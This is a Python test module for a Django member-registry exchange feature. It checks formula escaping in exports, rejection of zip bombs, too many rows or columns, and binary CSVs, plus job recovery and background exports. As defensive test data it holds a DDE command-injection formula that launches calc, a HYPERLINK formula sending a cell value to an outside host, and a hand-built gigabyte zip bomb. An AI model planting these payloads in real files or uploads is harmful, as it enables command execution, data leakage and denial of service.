"""Issue 16's defects in the exchange: formula injection (1), zip bombs (2), large imports on `make run`
and imports killed mid-way (8), a binary file named .csv (9); and issue 10's exports as background jobs,
issue 17's exports with dates as dates, a frozen header and column widths."""

import io
import struct
import threading
import time
import zlib

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook

from xaydungdang.access.models import AccessLog
from xaydungdang.access.policy import SYSTEM
from xaydungdang.exchange import exports_jobs, jobs, services
from xaydungdang.exchange.models import ExportJob, ImportBatch
from xaydungdang.exchange.services import import_batch_rescue, import_batch_run, import_batch_start
from xaydungdang.exchange.tests.helpers import BINH, HEADERS, MAI, csv_bytes, xlsx
from xaydungdang.exchange.tests.test_views import login
from xaydungdang.members.lifecycle.register import register_xlsx
from xaydungdang.members.models import Member

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://x.example/?id="&F4,"Bấm vào đây")'
Status = ImportBatch.Status


def _inject(member) -> None:
    Member.objects.filter(pk=member.pk).update(full_name=HYPERLINK, address="@SUM(1+1)*cmd|' /C calc'!A0")


# --- 1. formula injection ---------------------------------------------------------------------------
def test_a_formula_in_a_member_field_is_exported_as_text(client, users, members):
    _inject(members.hung)
    login(client, users.officer)
    sheet = load_workbook(io.BytesIO(client.get("/exchange/members.xlsx").content)).active
    cells = [
        cell for row in sheet.iter_rows() for cell in row if cell.value in (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0")
    ]
    assert len(cells) == 2
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_formula_in_a_member_field_is_text_in_the_7_hsdv_register(members, tree):
    _inject(members.hung)
    sheet = load_workbook(io.BytesIO(register_xlsx(tree.cell_1, timezone.localdate(), SYSTEM))).active
    names = [cell for row in sheet.iter_rows() for cell in row if cell.value == HYPERLINK]
    assert names and all(cell.data_type == "s" and cell.quotePrefix for cell in names)


def test_the_csv_export_escapes_formulas_and_imports_back_unchanged(client, users, tree):
    batch = import_batch_start(actor=users.officer, file_name="ds.xlsx", content=xlsx([MAI, BINH]))
    import_batch_run(batch_id=batch.pk, commit=True)
    Member.objects.filter(national_id=MAI[5]).update(address="=1+2", phone="+84 912 345 678")
    login(client, users.officer)
    content = client.get("/exchange/members.csv", {"q": "vo thi mai"}).content
    text = content.decode("utf-8-sig")
    assert "'=1+2" in text and "'+84 912 345 678" in text
    again = import_batch_start(actor=users.officer, file_name="ds.csv", content=content)
    assert import_batch_run(batch_id=again.pk, commit=True).summary == "0 mới, 0 cập nhật, 1 không đổi"


# --- 17.5: dates as dates, frozen header, widths ------------------------------------------------------
def test_the_member_export_keeps_dates_as_dates_freezes_its_header_and_sets_widths(client, users, members):
    login(client, users.officer)
    sheet = load_workbook(io.BytesIO(client.get("/exchange/members.xlsx").content)).active
    header = [cell.value for cell in sheet[3]]
    birth = header.index("Ngày sinh *") + 1
    cell = sheet.cell(row=4, column=birth)
    assert cell.is_date and cell.number_format == "dd/mm/yyyy"
    assert sheet.freeze_panes == "A4"
    assert sheet.column_dimensions["A"].width == pytest.approx(28, abs=1)


# --- 2. zip bombs -------------------------------------------------------------------------------------
def _zip(entries: dict[str, bytes], bomb: tuple[str, bytes, int, int] | None = None) -> bytes:
    """A zip package by hand: `entries` deflated normally, and `bomb` = (name, raw deflate data, the
    uncompressed size, its CRC) written as is (so a 1 GB part costs 1 MB to make)."""
    items = [(name, zlib.compress(data, 9)[2:-4], len(data), zlib.crc32(data)) for name, data in entries.items()]
    if bomb:
        items.append(bomb)
    body, directory = io.BytesIO(), io.BytesIO()
    for name, data, size, crc in items:
        offset = body.tell()
        encoded = name.encode()
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(encoded), 0)
        body.write(header + encoded + data)
        directory.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(data),
                size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    start, length = body.tell(), directory.tell()
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(items), len(items), length, start, 0)
    return body.getvalue() + directory.getvalue() + end


def _package(sheet: bytes | None = None, bomb=None) -> bytes:
    main = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    entries = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": b"<workbook "
        + main
        + b' xmlns:r="'
        + rel
        + b'"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="' + rel + b'/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }
    if sheet is not None:
        entries["xl/worksheets/sheet1.xml"] = sheet
    return _zip(entries, bomb)


@pytest.fixture(scope="module")
def gigabyte_bomb() -> bytes:
    """About 1 MB that inflates to 1 GB: a sheet without <dimension>, rows of blank space and cells."""
    row = b'<row><c t="inlineStr"><is><t>Mai</t></is></c>' + b" " * 16000 + b"</row>"
    block = row * (1024 * 1024 // len(row))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)  # the same bytes every time
    header = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in HEADERS).encode()
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    head += b"<row>" + header + b"</row>"
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    opening = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH)
    count = 1040
    data = opening + repeated * count + b"\x03\x00"  # an empty final block ends the stream
    size = len(head) + len(block) * count
    crc = zlib.crc32(head)
    for _block in range(count):
        crc = zlib.crc32(block, crc)
    content = _package(bomb=("xl/worksheets/sheet1.xml", data, size, crc))
    assert len(content) < 2 * 1024 * 1024 and size >= 1 << 30
    return content


def test_a_zip_bomb_is_refused_at_upload_quickly_with_a_message(users, tree, gigabyte_bomb, settings):
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 64 << 20  # the test stops sooner than the 256 MB default
    started = time.perf_counter()
    batch = import_batch_start(actor=users.officer, file_name="bom.xlsx", content=gigabyte_bomb)
    assert time.perf_counter() - started < 15  # only up to the limit is inflated, not the 1 GB
    assert batch.status == Status.INVALID
    assert batch.errors[0]["message"] == (
        "Tệp quá lớn khi giải nén (quá 64 MB dữ liệu); hãy chia thành nhiều tệp nhỏ hơn."
    )


def test_a_zip_bomb_is_refused_when_read_too(users, tree, gigabyte_bomb, settings):
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 64 << 20
    batch = ImportBatch.objects.create(user=users.officer, file_name="bom.xlsx", content=gigabyte_bomb)
    batch = import_batch_run(batch_id=batch.pk, commit=False)
    assert batch.status == Status.INVALID
    assert "quá 64 MB" in batch.errors[0]["message"]


def test_too_many_rows_are_refused_while_streaming(users, tree, settings):
    settings.IMPORT_MAX_ROWS = 2
    batch = import_batch_start(actor=users.officer, file_name="ds.xlsx", content=xlsx([MAI, BINH]))
    assert batch.status == Status.INVALID and "quá 2 dòng" in batch.errors[0]["message"]


def test_too_many_columns_are_refused_before_the_reader_makes_its_range(users, tree):
    wide = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    wide += b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c><c r="XFD1"><v>1</v></c></row></sheetData></worksheet>'
    batch = import_batch_start(actor=users.officer, file_name="ds.xlsx", content=_package(wide))
    assert batch.status == Status.INVALID and "quá 200 cột" in batch.errors[0]["message"]


def test_a_row_of_cells_without_references_is_counted_even_below_many_referenced_rows(users, tree):
    """Rows' own r="…" attributes must not hide cells that carry none: 300 empty rows, then 300 cells."""
    wide = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    wide += b"".join(b'<row r="%d"/>' % number for number in range(1, 301))
    wide += b'<row r="301">' + b"<c><v>1</v></c>" * 300 + b"</row></sheetData></worksheet>"
    batch = import_batch_start(actor=users.officer, file_name="ds.xlsx", content=_package(wide))
    assert batch.status == Status.INVALID and "quá 200 cột" in batch.errors[0]["message"]


# --- 9. a binary file named .csv ----------------------------------------------------------------------
def test_a_binary_file_named_csv_gets_a_clear_message_not_a_system_error(users, tree):
    content = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 20
    batch = import_batch_start(actor=users.officer, file_name="ds.csv", content=content)
    batch = import_batch_run(batch_id=batch.pk, commit=False)
    assert batch.status == Status.INVALID
    assert "không phải văn bản CSV" in batch.errors[0]["message"]


def test_an_xlsx_renamed_csv_is_read_as_a_workbook(users, tree):
    batch = import_batch_start(actor=users.officer, file_name="ds.csv", content=xlsx([MAI, BINH]))
    assert import_batch_run(batch_id=batch.pk, commit=False).status == Status.VALID


def test_a_csv_still_imports(users, tree):
    batch = import_batch_start(actor=users.officer, file_name="ds.csv", content=csv_bytes([MAI, BINH]))
    assert import_batch_run(batch_id=batch.pk, commit=True).summary == "2 mới, 0 cập nhật, 0 không đổi"


# --- 8. large imports without a worker; imports killed mid-way ---------------------------------------
def test_a_queued_batch_no_worker_takes_runs_in_the_web_process(users, tree, monkeypatch):
    monkeypatch.setattr(services, "INLINE_MAX_ROWS", 1)
    monkeypatch.setattr(jobs, "run_in_thread", lambda function, *args: function(*args))  # the thread, at once
    batch = import_batch_start(actor=users.officer, file_name="ds.xlsx", content=xlsx([MAI, BINH]))
    batch = services.import_batch_schedule(batch=batch, commit=False)
    assert batch.status == Status.PENDING
    assert import_batch_rescue(batch=batch).status == Status.PENDING  # a worker may still come
    ImportBatch.objects.filter(pk=batch.pk).update(scheduled_at=timezone.now() - timezone.timedelta(minutes=1))
    batch.refresh_from_db()
    import_batch_rescue(batch=batch)
    batch.refresh_from_db()
    assert batch.status == Status.VALID and batch.summary.startswith("2 mới")
    assert services.import_batch_run(batch_id=batch.pk, commit=False, claimed=False) is None  # never twice


def test_a_batch_killed_while_committing_is_marked_failed_with_a_message(users, tree):
    batch = import_batch_start(actor=users.officer, file_name="ds.xlsx", content=xlsx([MAI, BINH]))
    ImportBatch.objects.filter(pk=batch.pk).update(status=Status.COMMITTING)  # its process died here
    batch.refresh_from_db()
    assert import_batch_rescue(batch=batch).status == Status.FAILED
    batch.refresh_from_db()
    assert batch.status == Status.FAILED and "bị gián đoạn" in batch.errors[0]["message"]
    assert not Member.objects.filter(national_id=MAI[5]).exists()


@pytest.mark.django_db(transaction=True)
def test_a_batch_whose_runner_is_alive_is_left_alone(users, tree):
    batch = import_batch_start(actor=users.officer, file_name="ds.xlsx", content=xlsx([MAI, BINH]))
    ImportBatch.objects.filter(pk=batch.pk).update(status=Status.COMMITTING)
    holding, release = threading.Event(), threading.Event()

    def runner() -> None:  # another process's runner: its own connection and lock
        from django.db import connection

        with jobs.running("import", batch.pk):
            holding.set()
            release.wait(10)
        connection.close()

    thread = threading.Thread(target=runner)
    thread.start()
    try:
        assert holding.wait(10)
        batch.refresh_from_db()
        assert import_batch_rescue(batch=batch).status == Status.COMMITTING
    finally:
        release.set()
        thread.join()
    assert import_batch_rescue(batch=batch).status == Status.FAILED


def test_the_recover_command_marks_interrupted_batches(users, tree, capsys):
    batch = import_batch_start(actor=users.officer, file_name="ds.xlsx", content=xlsx([MAI]))
    ImportBatch.objects.filter(pk=batch.pk).update(status=Status.VALIDATING)
    call_command("recover_jobs")
    assert "1 đợt nhập" in capsys.readouterr().out
    assert ImportBatch.objects.get(pk=batch.pk).status == Status.FAILED


# --- exports as background jobs -----------------------------------------------------------------------
def test_a_long_member_list_is_exported_in_the_background_with_progress(
    client, users, members, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr("xaydungdang.exchange.views.INLINE_MAX_ROWS", 1)
    login(client, users.officer)
    response = client.get("/exchange/members.xlsx", {"status": ""})
    assert response.status_code == 302 and "/exchange/exports/new/" in response["Location"]
    assert "khoảng" in client.get(response["Location"]).content.decode()
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post("/exchange/exports/new/", {"kind": "members"})
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.PENDING and job.total_rows == Member.objects.count()
    fragment = client.get(response["Location"], HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 1s"' in fragment and "progress-bar" in fragment
    for callback in callbacks:
        callback()  # the worker (django-q, synchronous in tests)
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE and job.processed_rows == job.total_rows
    download = client.get(f"/exchange/exports/{job.pk}/file/")
    rows = list(load_workbook(io.BytesIO(b"".join(download.streaming_content))).active.iter_rows(values_only=True))
    assert len(rows) == 3 + Member.objects.count()
    assert AccessLog.objects.filter(kind=AccessLog.Kind.EXPORT, user=users.officer, detail__job=job.pk).exists()
    login(client, users.secretary)
    assert client.get(f"/exchange/exports/{job.pk}/file/").status_code == 404  # another user's file


def test_the_register_and_review_results_are_made_as_jobs(users, tree, members):
    register = exports_jobs.export_job_start(
        actor=users.officer, kind="register", params={"organization": tree.cell_1.pk, "on": ""}
    )
    register = exports_jobs.export_job_run(job_id=register.pk)
    sheet = load_workbook(register.file.open("rb")).active
    assert sheet["A1"].value == "SỔ DANH SÁCH ĐẢNG VIÊN (Mẫu 7-HSĐV)" and register.total_rows >= 2


def test_an_export_out_of_scope_is_not_found(users, tree):
    from django.http import Http404

    with pytest.raises(Http404):
        exports_jobs.export_job_start(
            actor=users.secretary, kind="register", params={"organization": tree.village_b.pk, "on": ""}
        )


def test_an_export_killed_mid_way_is_marked_failed(users, tree):
    job = exports_jobs.export_job_start(actor=users.officer, kind="members", params={"filters": {}})
    ExportJob.objects.filter(pk=job.pk).update(status=ExportJob.Status.RUNNING)
    job.refresh_from_db()
    assert exports_jobs.export_job_rescue(job=job).status == ExportJob.Status.FAILED


def test_the_export_command_writes_a_province_file(users, tree, members, tmp_path, capsys):
    target = tmp_path / "dv.xlsx"
    call_command(
        "export_file",
        "members",
        "--user",
        users.officer.username,
        "--organization",
        tree.province.code,
        "--output",
        str(target),
    )
    rows = list(load_workbook(target).active.iter_rows(values_only=True))
    assert len(rows) == 3 + Member.objects.filter(organization__path__startswith=tree.province.path).count()


def test_two_processes_with_an_in_memory_database_each_do_not_share_job_locks(monkeypatch):
    """Defect: the lock folder was keyed by the database's name only, and every process with a memory database
    (test workers) has the same name, so a job of one worker looked alive to another with the same id."""
    from django.db import connection

    if not (connection.vendor == "sqlite" and connection.is_in_memory_db()):
        pytest.skip("a file or server database is shared by its processes, and so are its job locks")
    mine = jobs._lock_path("import", 1)
    monkeypatch.setattr(jobs.os, "getpid", lambda: -1)
    assert jobs._lock_path("import", 1) != mine
